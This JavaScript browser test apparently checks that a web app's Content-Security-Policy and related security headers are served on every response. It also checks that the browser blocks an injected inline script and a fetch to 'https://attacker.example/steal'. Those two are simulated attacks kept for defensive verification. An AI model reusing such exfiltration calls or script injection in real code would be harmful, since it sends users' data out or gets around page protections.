// The app's security headers as a browser meets them: every answer of the local static server
// carries the build's Content-Security-Policy (dist/_headers) with the edge API allowed, the app
// runs under it without a single violation, and an injected inline script or a call to a
// foreign origin is blocked.
import { test } from "node:test";
import assert from "node:assert/strict";
import { env, launchBrowser, startApp, watchErrors } from "./support.mjs";

test("the app is served with its security headers and an injected inline script does not run", async (t) => {
  const app = await startApp({ announceModel: true });
  const browser = await launchBrowser();
  t.after(async () => { await browser.close(); await app.stop(); });

  const index = await fetch(app.url);
  const csp = index.headers.get("content-security-policy") ?? "";
  assert.match(csp, /script-src 'self' 'wasm-unsafe-eval' 'sha256-[A-Za-z0-9+/]+={0,2}'/);
  assert.doesNotMatch(csp, /'unsafe-eval'|script-src[^;]*'unsafe-inline'/);
  assert.ok(csp.includes(`connect-src 'self' http://localhost:* http://127.0.0.1:* ${new URL(env("MD_EDGE_URL")).origin}`), csp);
  assert.match(csp, /frame-ancestors 'none'/);
  assert.equal(index.headers.get("x-content-type-options"), "nosniff");
  assert.equal(index.headers.get("referrer-policy"), "no-referrer");
  assert.equal(index.headers.get("x-frame-options"), "DENY");
  const config = await fetch(new URL("app-config.json", app.url + "/"));
  assert.equal(config.headers.get("content-security-policy"), csp, "every answer carries it");

  const page = await browser.newPage();
  const errors = watchErrors(page);
  await page.addInitScript(() => {
    window.__violations = [];
    document.addEventListener("securitypolicyviolation", (e) => window.__violations.push(e.violatedDirective));
  });
  await page.goto(app.url);
  await page.waitForSelector("#welcome", { timeout: 30_000 });
  // The app's own work under the policy: its wasm, its engine worker (Generate), the edge API.
  await page.goto(new URL("generate", app.url + "/").href);
  await page.fill("#gen-count", "2");
  await page.click("#gen-start");
  await page.waitForSelector("#gen-status[data-state='complete']", { timeout: 120_000 });
  await page.goto(new URL("system", app.url + "/").href);
  await page.waitForSelector("#diag-edge[data-ok='true']", { timeout: 60_000 });
  assert.deepEqual(await page.evaluate(() => window.__violations), [], "the app itself breaks no rule");

  const blocked = await page.evaluate(async () => {
    const script = document.createElement("script");
    script.textContent = "window.__injected = true";
    document.body.append(script);
    let foreign = "allowed";
    try { await fetch("https://attacker.example/steal"); } catch { foreign = "blocked"; }
    await new Promise((r) => setTimeout(r, 100));
    return { injected: window.__injected === true, foreign, violations: window.__violations };
  });
  assert.equal(blocked.injected, false, "an injected inline script does not run");
  assert.equal(blocked.foreign, "blocked");
  assert.deepEqual(blocked.violations.sort(), ["connect-src", "script-src-elem"]);
  // The two refusals are reported on the console by the browser; nothing else is.
  assert.equal(errors.filter((e) => !/Content Security Policy/.test(e)).length, 0, errors.join("\n"));
});
